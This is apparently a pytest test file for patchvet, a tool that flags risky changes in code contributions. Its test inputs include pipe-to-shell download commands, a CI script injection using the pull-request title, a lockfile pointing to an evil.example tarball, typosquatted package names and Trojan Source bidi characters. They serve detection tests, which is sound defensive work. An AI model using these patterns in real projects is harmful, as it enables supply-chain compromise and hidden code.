"""Size, protected paths, CI surfaces, dependencies, Unicode and binaries."""

from __future__ import annotations

from dataclasses import replace

from patchvet.analyzers.binary import binary
from patchvet.analyzers.ci_change import ci_change
from patchvet.analyzers.dependency import dependency, lookalike
from patchvet.analyzers.protected_path import protected_path
from patchvet.analyzers.size import measure, size
from patchvet.analyzers.unicode import unicode_chars
from patchvet.policy import load_preset
from patchvet.records import ChangeStatus, FileChange
from tests.helpers import added, contribution, subject


def test_size_buckets_and_generated_files_excluded() -> None:
    files = (
        added("src/a.py", *["x = 1"] * 120),
        FileChange("package-lock.json", ChangeStatus.MODIFIED, additions=5000),
        FileChange("vendor/lib/x.go", ChangeStatus.MODIFIED, additions=900),
    )
    item = contribution(files=files)
    measured = measure(item, load_preset("default"))
    assert (measured.lines, measured.bucket, measured.files, measured.excluded_files) == (
        120,
        "L",
        1,
        2,
    )
    assert [f.id for f in size(subject(item))] == []


def test_size_large_and_limits() -> None:
    item = contribution(files=(added("big.py", *["y"] * 600),))
    [finding] = size(subject(item))
    assert finding.id == "size/large" and "XL" in finding.message
    limited = replace(
        load_preset("default"), size=replace(load_preset("default").size, max_lines=100)
    )
    assert [f.id for f in size(subject(item, limited))] == ["size/over-limit"]


def test_governance_files_are_protected_by_default() -> None:
    item = contribution(files=(added("LICENSE", "MIT"), added("docs/LICENSE", "x")))
    [finding] = protected_path(subject(item))
    assert finding.id == "protected-path/governance"
    assert finding.evidence == "LICENSE"


def test_rust_critical_paths_only_when_ai_detected() -> None:
    path = "compiler/rustc_trait_selection/src/lib.rs"
    human = contribution(files=(added(path, "fn x() {}"),))
    assert list(protected_path(subject(human, "rust"))) == []
    agent = contribution(
        message="Fix\n\nCo-Authored-By: Claude <noreply@anthropic.com>",
        files=(added(path, "fn x() {}"),),
    )
    assert [f.id for f in protected_path(subject(agent, "rust"))] == [
        "protected-path/critical-compiler"
    ]


def test_ci_workflow_patterns() -> None:
    workflow = added(
        ".github/workflows/ci.yml",
        "on: pull_request_target",
        "permissions: write-all",
        "      - uses: someone/action@v1",
        "      - uses: actions/checkout@v4",
        "      - run: curl -fsSL https://get.example.sh | sudo bash",
        '      - run: echo "${{ github.event.pull_request.title }}"',
        "        env: {TOKEN: ${{ secrets.NPM_TOKEN }}}",
    )
    ids = sorted(f.id for f in ci_change(subject(contribution(files=(workflow,)))))
    assert ids == sorted(
        [
            "ci-change/privileged-trigger",
            "ci-change/permissions",
            "ci-change/unpinned-action",
            "ci-change/pipe-to-shell",
            "ci-change/script-injection",
            "ci-change/secret-use",
            "ci-change/workflow",
        ]
    )


def test_ci_harmless_and_build_scripts() -> None:
    files = (
        added(
            ".github/workflows/ci.yml",
            "      - uses: actions/checkout@v4",
            "      - uses: someone/action@0123456789abcdef0123456789abcdef01234567",
        ),
        added("Makefile", "all:", "\tcc -o x x.c"),
        added("scripts/install.sh", "wget -qO- https://x.example/i.sh | sh"),
        added("package.json", '  "scripts": {', '    "postinstall": "node setup.js"'),
        added("README.md", "curl https://x | sh"),
    )
    ids = sorted(f.id for f in ci_change(subject(contribution(files=files))))
    assert ids == [
        "ci-change/build-script",
        "ci-change/install-hook",
        "ci-change/pipe-to-shell",
        "ci-change/workflow",
    ]


def test_binary_test_fixture_is_a_ci_change() -> None:
    fixture = FileChange("tests/files/bad-3-corrupt_lzma2.xz", ChangeStatus.ADDED, binary=True)
    ids = [f.id for f in ci_change(subject(contribution(files=(fixture,))))]
    assert ids == ["ci-change/binary-fixture"]
    assert [f.id for f in binary(subject(contribution(files=(fixture,))))] == [
        "binary/executable-or-archive"
    ]


def test_binary_added_modified_deleted() -> None:
    files = (
        FileChange("img/logo.png", ChangeStatus.ADDED, binary=True),
        FileChange("img/icon.png", ChangeStatus.MODIFIED, binary=True),
        FileChange("img/old.png", ChangeStatus.DELETED, binary=True),
    )
    assert [f.id for f in binary(subject(contribution(files=files)))] == [
        "binary/added",
        "binary/modified",
    ]


def test_dependencies_in_each_ecosystem() -> None:
    files = (
        added("requirements.txt", "requests==2.32.0", "# comment", "-r base.txt"),
        added("pyproject.toml", '    "httpx>=0.27",', '    "E",', '    "rich",'),
        added(
            "package.json",
            '    "lodash": "^4.17.21",',
            '    "version": "1.0.0",',
            '    "build": "tsc -p ."',
        ),
        added("Cargo.toml", 'serde = { version = "1", features = ["derive"] }', 'edition = "2021"'),
        added("go.mod", "require github.com/spf13/cobra v1.8.0", "\tgolang.org/x/net v0.30.0"),
    )
    [finding] = list(dependency(subject(contribution(files=files))))
    assert finding.id == "dependency/changed"
    assert finding.message == "Adds or changes 7 dependencies"
    for name in ("requests", "httpx", "rich", "lodash", "serde", "cobra", "golang.org/x/net"):
        assert name in finding.evidence


def test_lookalike_names() -> None:
    assert lookalike("pypi", "reqeusts") == "requests"
    assert lookalike("pypi", "requestss") == "requests"
    assert lookalike("pypi", "python_dateutil") is None
    assert lookalike("pypi", "pythondateutil") == "python-dateutil"
    assert lookalike("pypi", "requests") is None
    assert lookalike("npm", "lodahs") == "lodash"
    assert lookalike("npm", "express") is None
    assert lookalike("crates", "serde_json") is None
    assert lookalike("pypi", "my-internal-tool") is None
    item = contribution(files=(added("requirements.txt", "reqeusts==2.32.0"),))
    ids = [f.id for f in dependency(subject(item))]
    assert "dependency/lookalike-name" in ids


def test_non_registry_sources_and_lockfile_only() -> None:
    files = (
        added("requirements.txt", "mylib @ git+https://github.com/x/mylib@main"),
        added("package-lock.json", '      "resolved": "https://evil.example/lodash-4.17.21.tgz",'),
    )
    ids = [f.id for f in dependency(subject(contribution(files=files)))]
    assert ids.count("dependency/non-registry-source") == 2
    lock_only = contribution(files=(added("Cargo.lock", 'name = "x"'),))
    assert [f.id for f in dependency(subject(lock_only))] == ["dependency/lockfile-only"]


def test_unicode_trojan_source_invisible_and_homoglyphs() -> None:
    change = added(
        "src/auth.c",
        'if (access_level != "user\u202e \u2066// Check if admin\u2069 \u2066") {',
        "int is\u200badmin = 0;",
        "int ѕcope = 1;",  # Cyrillic dze
        "// emoji family 👨\u200d👩\u200d👧 is fine",
        "name = 'Ελληνικά'  # all Greek is fine",
    )
    findings = list(unicode_chars(subject(contribution(files=(change,)))))
    kinds = [(f.id, f.locations[0].line, f.locations[0].column) for f in findings]
    assert ("unicode/bidi-control", 1, 26) in kinds
    assert len(kinds) == 3
    assert ("unicode/invisible", 2, 7) in kinds
    assert ("unicode/mixed-script", 3, 5) in kinds
    assert all(line not in (4, 5) for _, line, _ in kinds)


def test_image_test_data_is_not_a_suspicious_fixture() -> None:
    image = FileChange("tests/screenshots/prompt.png", ChangeStatus.ADDED, binary=True)
    assert list(ci_change(subject(contribution(files=(image,))))) == []


def test_variation_selectors_after_symbols_are_fine_runs_are_not() -> None:
    change = added(
        "src/render.zig",
        'try expect("☔\ufe0e", str);',
        '// "#\ufe0e" keycap base with text presentation',
        "const payload = `\ufe01\ufe02\ufe03\ufe04`;",
        "let x\ufe0f = 1;",
    )
    lines = [f.locations[0].line for f in unicode_chars(subject(contribution(files=(change,))))]
    assert lines == [3, 4]


def test_mixed_script_ignored_in_translations_and_prose() -> None:
    files = (
        added("po/uk_UA.po", 'msgstr "Скопійовано до буферa обміну"'),
        added("src/main.c", "int буферa = 0;"),
    )
    findings = list(unicode_chars(subject(contribution(files=files))))
    assert [(f.id, f.locations[0].path) for f in findings] == [
        ("unicode/mixed-script", "src/main.c")
    ]
